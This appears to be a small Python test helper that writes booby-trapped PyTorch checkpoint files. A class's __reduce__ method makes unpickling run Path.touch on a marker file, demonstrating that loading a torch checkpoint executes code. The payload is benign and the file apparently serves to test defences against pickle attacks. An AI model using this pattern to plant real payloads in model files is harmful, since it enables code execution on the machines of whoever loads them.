"""A pickle that runs code where it is read."""

from pathlib import Path

import torch


class Attack:
    """Creates the file `mark` when it is unpickled."""

    def __init__(self, mark: Path) -> None:
        self.mark = mark

    def __reduce__(self) -> tuple[object, ...]:
        return Path.touch, (self.mark,)


def plant(mark: Path, *files: Path) -> None:
    """Writes files as torch writes whole networks; reading one creates `mark`."""
    for file in files:
        file.parent.mkdir(parents=True, exist_ok=True)
        torch.save({"state_dict": Attack(mark)}, file)
